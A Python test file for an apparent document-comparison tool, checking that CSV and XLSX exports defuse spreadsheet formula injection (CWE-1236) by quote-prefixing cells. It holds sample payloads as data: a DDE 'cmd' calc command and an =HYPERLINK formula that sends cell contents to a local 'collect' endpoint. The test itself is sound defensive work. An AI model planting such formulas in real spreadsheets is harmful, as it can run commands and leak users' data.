"""Case c62: document text that starts with ``=``, ``@``, ``+`` or ``-`` lands in comparison-grid cells; the CSV and
XLSX exports carry no live formula (OWASP "CSV Injection", CWE-1236). The c62 files are ingested for real and
compared through the real grid (extractive answers, real embedder, Chroma, BM25); then the exported bytes are read
back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from prism.answering.compare.export import cell_text, grid_csv, grid_xlsx
from prism.service import PrismService
from prism.types import FORMULA_TRIGGERS, CompareGrid, IngestItem
from tests.conftest import CASES, offline_service

FEE, INTERCHANGE, SETTLEMENT = "c62_fee_terms.txt", "c62_interchange_terms.txt", "c62_settlement_terms.txt"
RENAMED = "=HYPERLINK(1)-fee.txt"  # a file name is a column header
MDR = "What is the merchant discount rate?"
INTERCHANGE_FEE = "What is the interchange fee?"
NEGATIVE = "-5"  # a question typed as a bare negative number
FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"  # a question pasted from the settlement document's payload


@pytest.fixture(scope="module")
def grid(tmp_path_factory, embedder) -> CompareGrid:
    svc: PrismService = offline_service(tmp_path_factory.mktemp("c62"), embedder, briefing_on_ingest=False)
    items = [IngestItem(CASES / n) for n in (FEE, INTERCHANGE, SETTLEMENT)]
    items.append(IngestItem((CASES / FEE).read_bytes().replace(b"Fern Valley", b"Fern Hill"), RENAMED))
    assert [r.status for r in svc.ingest(items, "c62")] == ["ingested"] * 4
    docs = (FEE, INTERCHANGE, SETTLEMENT, RENAMED)
    questions = (MDR, INTERCHANGE_FEE, NEGATIVE, FORMULA)
    cells = tuple(svc.compare(list(docs), list(questions), "c62"))
    return CompareGrid("", "c62", docs, questions, cells)


def test_the_grid_really_holds_formula_text(grid):
    """The test means something: before export, a cell starts with a document's payload, a file name and two
    questions with a trigger, and the settlement cell quotes its payload (after the figure the first line states)."""
    assert cell_text(grid.cell(INTERCHANGE, INTERCHANGE_FEE)).startswith('=HYPERLINK("http://127.0.0.1:8999/')
    assert FORMULA in cell_text(grid.cell(SETTLEMENT, MDR))
    assert all(name.startswith(FORMULA_TRIGGERS) for name in (RENAMED, NEGATIVE, FORMULA))


def _exported(text: str) -> str:
    """What the export must write for a cell's text: a quote before a leading trigger, the text otherwise as is."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _no_formula(text: str) -> bool:
    return not text.startswith(FORMULA_TRIGGERS)


def test_csv_export_prefixes_every_formula_cell_and_header(grid):
    rows = list(csv.reader(io.StringIO(grid_csv(grid).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["question", FEE, INTERCHANGE, SETTLEMENT, "'" + RENAMED]
    by_question = {r[0]: r[1:] for r in rows[1:]}
    assert list(by_question) == [MDR, INTERCHANGE_FEE, "'-5", "'" + FORMULA]
    hyperlink = by_question[INTERCHANGE_FEE][1]
    assert hyperlink.startswith("'=HYPERLINK(\"http://127.0.0.1:8999/collect?d=\"&B2,")
    assert hyperlink[1:] == cell_text(grid.cell(INTERCHANGE, INTERCHANGE_FEE))  # the text itself is unchanged
    for question, values in zip((MDR, INTERCHANGE_FEE, NEGATIVE, FORMULA), by_question.values(), strict=True):
        assert values == [_exported(cell_text(grid.cell(d, question))) for d in (FEE, INTERCHANGE, SETTLEMENT,
                                                                                 RENAMED)]
    assert all(_no_formula(v) for row in rows for v in row)


def test_xlsx_export_is_all_strings_and_no_formula(grid):
    sheet = openpyxl.load_workbook(io.BytesIO(grid_xlsx(grid))).worksheets[0]
    assert sheet.title == "Comparison" and (sheet.max_row, sheet.max_column) == (5, 5)
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" and _no_formula(c.value) for c in cells if c.value is not None)
    assert sheet["E1"].value == "'" + RENAMED and sheet["A4"].value == "'-5" and sheet["A5"].value == "'" + FORMULA
    hyperlink = sheet["C3"].value
    assert hyperlink.startswith("'=HYPERLINK(") and sheet["C3"].quotePrefix
    assert sheet["D2"].value == _exported(cell_text(grid.cell(SETTLEMENT, MDR))) and FORMULA in sheet["D2"].value
    assert sheet["B1"].value == FEE and not sheet["B1"].quotePrefix
    # the XML itself holds no <f> (formula) element
    with io.BytesIO(grid_xlsx(grid)) as raw:
        import zipfile

        xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
